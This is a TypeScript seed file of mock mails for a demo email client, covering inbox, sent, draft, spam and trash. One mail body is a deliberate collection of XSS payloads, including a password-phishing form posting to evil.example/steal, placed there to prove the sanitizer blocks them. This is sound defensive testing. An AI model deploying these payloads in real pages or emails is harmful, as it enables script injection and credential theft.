import { z } from 'zod';
import { collection } from '@/mocks/db';
import { createRandom, SEED_NOW } from '@/mocks/random';
import { mailSchema, type Attachment, type Mail, type MailFolder, type MailLabel, type MailTag, type Reply } from '../api/email.contract';

export const EMAIL_TAGS: MailTag[] = [
  { text: 'Personal', value: 'personal', color: 'success' },
  { text: 'Company', value: 'company', color: 'primary' },
  { text: 'Important', value: 'important', color: 'warning' },
  { text: 'Private', value: 'private', color: 'danger' },
];

/** The demo mailbox owner (the sender of Sent and Draft mails). */
export const ME = { name: 'John Doe', email: 'admin@admin.com', img: '/images/avatars/avatar-11.svg' };

const PEOPLE = [
  ['Sophie Laurent', 'sophie.laurent@northwind.example'],
  ['Marcus Chen', 'marcus.chen@acme-corp.example'],
  ['Priya Patel', 'priya@designhub.example'],
  ['Jonas Weber', 'jonas.weber@kontor.example'],
  ['Ana Souza', 'ana.souza@brisa.example'],
  ['Liam O’Connor', 'liam.oconnor@harbor.example'],
  ['Emma Johansson', 'emma.j@nordlys.example'],
  ['Noah Williams', 'noah.williams@acme-corp.example'],
  ['Fatima Zahra', 'fatima.zahra@atlas.example'],
  ['GitHub', 'noreply@github.example'],
  ['Stripe Billing', 'billing@stripe.example'],
  ['Olivia Brown', 'olivia.brown@northwind.example'],
] as const;

const p = (html: string) => html.replace(/\n\s*/g, '');
const BODIES = {
  quarterly: p(`<p>Hi John,</p><p>Attached is the <strong>Q3 revenue report</strong>. Highlights:</p>
    <ul><li>Revenue up <strong>18%</strong> quarter over quarter</li><li>Churn down to 2.1%</li><li>Enterprise pipeline: 14 open deals</li></ul>
    <p>Can we go through it on Thursday before the board call? The full dashboard is <a href="https://analytics.example/q3">here</a>.</p><p>Best,<br>Sophie</p>`),
  design:
    p(`<p>Hey!</p><p>The new onboarding screens are ready for review. I tried two directions for the empty states — one illustrated, one minimal.</p>
    <blockquote>Keep the first-run checklist short: three steps max.</blockquote><p>Figma link: <a href="https://figma.example/file/onboarding">Onboarding v4</a>. Comments welcome until Friday.</p><p>Priya</p>`),
  meeting: p(`<p>Hello team,</p><p>Quick reminder that the <strong>sprint planning</strong> moves to <em>Tuesday 10:00</em> this week.</p>
    <ol><li>Review of last sprint</li><li>Capacity and holidays</li><li>Top 10 backlog items</li></ol><p>Please update your tickets before the meeting.</p><p>Thanks,<br>Marcus</p>`),
  invoice: p(`<p>Hi John,</p><p>Your invoice <strong>#INV-20931</strong> for <strong>$1,240.00</strong> is now available.</p>
    <p>Payment is due on <strong>November 30</strong>. You can download the PDF from the <a href="https://billing.example/invoices/20931">billing portal</a>.</p><p>— Stripe Billing</p>`),
  trip: p(
    `<p>Hi John!</p><p>We booked the cabin for the long weekend 🎉. Check-in is Friday after 4 pm.</p><ul><li>Bring boots, the trail is muddy</li><li>I'll do groceries on Thursday</li></ul><p>Can't wait!<br>Ana</p>`,
  ),
  pr: p(`<p><strong>@marcus-chen</strong> requested your review on <a href="https://github.example/tessera/app/pull/482">#482 Dark theme tokens</a>.</p>
    <pre><code>+ --muted-foreground: oklch(0.72 0.02 260);</code></pre><p>You are receiving this because your review was requested.</p>`),
  contract: p(`<p>Dear John,</p><p>Please find the revised <strong>service agreement</strong> attached. Changes from the previous draft:</p>
    <ul><li>Section 4.2: response time now 4 business hours</li><li>Section 7: annual price review capped at 5%</li></ul><p>Let me know if legal has further comments.</p><p>Kind regards,<br>Jonas Weber</p>`),
  newsletter:
    p(`<h2>This week in product</h2><p>Three things we shipped:</p><ul><li>Bulk actions in the data table</li><li>Faster search (p95 180 ms)</li><li>Portuguese translation</li></ul>
    <p><a href="https://blog.example/weekly">Read the full post</a></p>`),
  lunch: p(`<p>Lunch on Friday? The new ramen place opened next to the office. 12:30?</p><p>Liam</p>`),
  hiring: p(
    `<p>Hi John,</p><p>Thanks for interviewing Daniel yesterday. Could you add your scorecard by tomorrow noon?</p><p>The panel so far is <strong>leaning yes</strong>; the system design round was strong.</p><p>Emma</p>`,
  ),
  spam: p(
    `<p>CONGRATULATIONS!!! You have been selected for an exclusive <strong>$5,000 gift card</strong>.</p><p>Claim now at <a href="https://prize-claim.example">prize-claim.example</a> before it expires!</p>`,
  ),
  security: p(
    `<p>Hi,</p><p>A new sign-in to your account was detected from <strong>Chrome on macOS</strong> in Lisbon, Portugal.</p><p>If this was you, no action is needed. Otherwise <a href="https://account.example/security">secure your account</a>.</p>`,
  ),
  reply: p(`<p>Sounds good, thanks for the quick turnaround!</p>`),
  draft: p(`<p>Hi Sophie,</p><p>Following up on the Q3 numbers — I think we should also mention the</p>`),
  offsite: p(
    `<p>Hi all,</p><p>The offsite agenda is attached. Highlights: <strong>roadmap 2027</strong>, team dinner on Wednesday, and a half-day hackathon.</p><p>Please confirm dietary requirements by Monday.</p><p>Fatima</p>`,
  ),
};

/**
 * Deliberately hostile HTML (RELIABILITY F1): every payload must be neutralised by SafeHtml when the
 * mail is opened. Kept in the seed so the demo proves the sanitizer.
 */
const XSS_BODY = [
  '<p>Hello, please review the attached statement.</p>',
  '<script>window.__xss = 1; alert(1)</script>',
  '<img src="x" onerror="window.__xss = 1">',
  '<svg onload="window.__xss = 1"><circle r="4"></circle></svg>',
  '<a href="javascript:window.__xss=1">Open statement</a>',
  '<a href="jav&#x09;ascript:alert(1)">Obfuscated link</a>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<form action="https://evil.example/steal"><input type="password" name="pw" placeholder="Confirm password"><button>Verify</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<math><mtext><a xlink:href="data:text/html,<script>alert(1)</script>">math</a></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">mXSS</p></noscript>',
  '<p style="background:url(javascript:alert(1))">Regards, Security Team</p>',
].join('');

type Row = {
  folder: MailFolder;
  from?: number;
  to?: number;
  subject: string;
  body: keyof typeof BODIES | 'xss';
  labels?: MailLabel[];
  starred?: boolean;
  unread?: boolean;
  files?: Attachment[];
  replies?: number;
  hoursAgo: number;
};

const ROWS: Row[] = [
  {
    folder: 'inbox',
    from: 0,
    subject: 'Q3 revenue report',
    body: 'quarterly',
    labels: ['company', 'important'],
    starred: true,
    unread: true,
    files: [
      { fileName: 'q3-revenue.pdf', size: 482_133 },
      { fileName: 'q3-data.xlsx', size: 96_512 },
    ],
    hoursAgo: 1,
  },
  {
    folder: 'inbox',
    from: 2,
    subject: 'Onboarding screens ready for review',
    body: 'design',
    labels: ['company'],
    unread: true,
    replies: 2,
    hoursAgo: 3,
  },
  {
    folder: 'inbox',
    from: 1,
    subject: 'Sprint planning moved to Tuesday',
    body: 'meeting',
    labels: ['company'],
    unread: true,
    hoursAgo: 5,
  },
  {
    folder: 'inbox',
    from: 10,
    subject: 'Your invoice #INV-20931 is available',
    body: 'invoice',
    labels: ['important'],
    unread: false,
    files: [{ fileName: 'INV-20931.pdf', size: 128_400 }],
    hoursAgo: 9,
  },
  {
    folder: 'inbox',
    from: 4,
    subject: 'Cabin booked for the long weekend 🎉',
    body: 'trip',
    labels: ['personal'],
    starred: true,
    unread: true,
    replies: 1,
    hoursAgo: 20,
  },
  { folder: 'inbox', from: 9, subject: '[tessera/app] Review requested: #482 Dark theme tokens', body: 'pr', unread: true, hoursAgo: 26 },
  {
    folder: 'inbox',
    from: 3,
    subject: 'Revised service agreement',
    body: 'contract',
    labels: ['important', 'private'],
    unread: false,
    files: [{ fileName: 'service-agreement-v3.docx', size: 74_240 }],
    replies: 3,
    hoursAgo: 30,
  },
  { folder: 'inbox', from: 11, subject: 'This week in product', body: 'newsletter', unread: false, hoursAgo: 48 },
  { folder: 'inbox', from: 5, subject: 'Lunch on Friday?', body: 'lunch', labels: ['personal'], unread: true, hoursAgo: 52 },
  {
    folder: 'inbox',
    from: 6,
    subject: 'Scorecard for Daniel (Frontend Engineer)',
    body: 'hiring',
    labels: ['company', 'private'],
    unread: false,
    hoursAgo: 70,
  },
  {
    folder: 'inbox',
    from: 10,
    subject: 'Action required: confirm your billing details',
    body: 'xss',
    labels: ['important'],
    unread: true,
    hoursAgo: 75,
  },
  {
    folder: 'inbox',
    from: 8,
    subject: 'Offsite agenda and logistics',
    body: 'offsite',
    labels: ['company'],
    starred: true,
    unread: false,
    files: [
      { fileName: 'offsite-agenda.pdf', size: 1_204_224 },
      { fileName: 'venue-map.png', size: 356_000 },
    ],
    hoursAgo: 96,
  },
  { folder: 'inbox', from: 9, subject: 'New sign-in to your account', body: 'security', unread: false, hoursAgo: 120 },
  {
    folder: 'inbox',
    from: 7,
    subject: 'Re: API rate limits',
    body: 'reply',
    labels: ['company'],
    unread: false,
    replies: 2,
    hoursAgo: 150,
  },
  {
    folder: 'inbox',
    from: 0,
    subject: 'Board deck — final version',
    body: 'quarterly',
    labels: ['important'],
    unread: false,
    hoursAgo: 200,
  },
  {
    folder: 'inbox',
    from: 4,
    subject: 'Photos from the weekend',
    body: 'trip',
    labels: ['personal'],
    unread: false,
    files: [{ fileName: 'IMG_2041.jpg', size: 2_480_113 }],
    hoursAgo: 260,
  },
  { folder: 'sent', to: 0, subject: 'Re: Q3 revenue report', body: 'reply', labels: ['company'], hoursAgo: 2 },
  { folder: 'sent', to: 3, subject: 'Comments on the service agreement', body: 'contract', labels: ['important'], hoursAgo: 28 },
  { folder: 'sent', to: 5, subject: 'Re: Lunch on Friday?', body: 'reply', labels: ['personal'], hoursAgo: 50 },
  { folder: 'sent', to: 6, subject: 'Interview feedback', body: 'hiring', hoursAgo: 66 },
  {
    folder: 'sent',
    to: 1,
    subject: 'Backlog priorities for next sprint',
    body: 'meeting',
    labels: ['company'],
    starred: true,
    hoursAgo: 100,
  },
  { folder: 'draft', to: 0, subject: 'Q3 follow-up', body: 'draft', hoursAgo: 4 },
  { folder: 'draft', to: 8, subject: '', body: 'draft', hoursAgo: 40 },
  { folder: 'spam', from: 11, subject: 'You have won a $5,000 gift card!!!', body: 'spam', unread: true, hoursAgo: 7 },
  { folder: 'spam', from: 11, subject: 'Last chance: claim your prize', body: 'spam', unread: true, hoursAgo: 31 },
  { folder: 'spam', from: 11, subject: 'Crypto opportunity inside', body: 'spam', unread: false, hoursAgo: 90 },
  { folder: 'trash', from: 7, subject: 'Old build notifications', body: 'newsletter', unread: false, hoursAgo: 80 },
  { folder: 'trash', from: 2, subject: 'Re: Logo exploration', body: 'design', labels: ['company'], unread: true, hoursAgo: 140 },
  { folder: 'trash', from: 5, subject: 'Weekend plans', body: 'lunch', labels: ['personal'], unread: false, hoursAgo: 300 },
  { folder: 'inbox', from: 1, subject: '', body: 'lunch', unread: false, hoursAgo: 330 },
];

const iso = (hoursAgo: number) => new Date(SEED_NOW - hoursAgo * 3_600_000).toISOString();
const person = (i: number) => PEOPLE[i % PEOPLE.length] as readonly [string, string];
const avatar = (i: number) => `/images/avatars/avatar-${(i % 20) + 1}.svg`;

/** 30 deterministic mails: inbox, sent, draft, spam and trash, with threads, labels and attachments. */
export function seedMails(): Mail[] {
  const random = createRandom(5150);
  let replyId = 1000;
  return ROWS.map((row, index) => {
    const outgoing = row.folder === 'sent' || row.folder === 'draft';
    const other = person(outgoing ? (row.to ?? 0) : (row.from ?? 0));
    const otherIdx = outgoing ? (row.to ?? 0) : (row.from ?? 0);
    const sender = outgoing ? { name: ME.name, email: ME.email, img: ME.img } : { name: other[0], email: other[1], img: avatar(otherIdx) };
    const to = outgoing ? [{ name: other[0], email: other[1] }] : [{ name: ME.name, email: ME.email }];
    const replies: Reply[] = Array.from({ length: row.replies ?? 0 }, (_, r) => {
      const mine = r % 2 === 0;
      return {
        id: replyId++,
        sender: mine ? ME.email : other[1],
        sender_name: mine ? ME.name : other[0],
        img: mine ? ME.img : avatar(otherIdx),
        to: mine ? [{ name: other[0], email: other[1] }] : [{ name: ME.name, email: ME.email }],
        cc: [],
        bcc: [],
        subject: `Re: ${row.subject}`,
        message:
          r === 0
            ? BODIES.reply
            : `<p>${random.pick(['Great, see you then.', 'Added my comments in the doc.', 'Could you send the latest version?', 'Thanks, that works for me.'])}</p>`,
        attachments: [],
        time: iso(row.hoursAgo + (row.replies ?? 0) * 6 - r * 6 + 6),
      };
    });
    return mailSchema.parse({
      id: index + 1,
      sender: sender.email,
      sender_name: sender.name,
      img: sender.img,
      to,
      cc: index % 5 === 0 && !outgoing ? [person(index + 3)[1]] : [],
      bcc: [],
      subject: row.subject,
      message: row.body === 'xss' ? XSS_BODY : BODIES[row.body],
      attachments: row.files ?? [],
      isStarred: row.starred ?? false,
      labels: row.labels ?? [],
      time: iso(row.hoursAgo),
      replies,
      mailFolder: row.folder,
      unread: row.unread ?? false,
    });
  });
}

export const XSS_MAIL_SUBJECT = 'Action required: confirm your billing details';

export const mails = collection('email-mails', z.array(mailSchema), seedMails);
